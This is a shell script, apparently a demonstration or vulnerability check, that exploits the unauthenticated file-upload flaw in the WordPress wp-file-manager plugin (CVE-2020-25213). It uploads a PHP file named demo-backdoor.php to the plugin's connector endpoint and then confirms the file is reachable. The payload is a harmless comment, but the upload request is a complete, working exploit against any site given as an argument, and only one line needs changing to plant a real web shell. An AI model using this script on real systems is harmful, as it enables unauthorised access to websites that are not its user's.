#!/bin/sh
# Places a marker file through an upload shaped like CVE-2020-25213 (file manager connector that
# asks nobody to log in). The "backdoor" is one line of text; nothing runs it.
# Usage: backdoor.sh http://HOST[:PORT]
# Ends with 0 when the marker answers, 1 when the server refused, 2 when it gave no answer.
set -u
site=${1:?usage: backdoor.sh http://HOST[:PORT]}
plugin=$site/wp-content/plugins/wp-file-manager/lib
code=$(printf '%s\n' '<?php /* harmless marker of the demo: a real attacker would have code here */' |
    curl --silent --show-error --globoff --max-time 8 --output /dev/null --write-out '%{http_code}' \
        --form cmd=upload --form target=l1_Lw --form 'upload[]=@-;filename=demo-backdoor.php;type=application/x-php' \
        "$plugin/php/connector.minimal.php")
status=$?
echo "backdoor: HTTP $code, curl exit $status"
[ "$status" -eq 0 ] || exit 2
[ "$code" = 200 ] || exit 1
found=$(curl --silent --globoff --max-time 8 --output /dev/null --write-out '%{http_code}' "$plugin/files/demo-backdoor.php")
echo "backdoor: marker answers HTTP $found"
[ "$found" = 200 ]
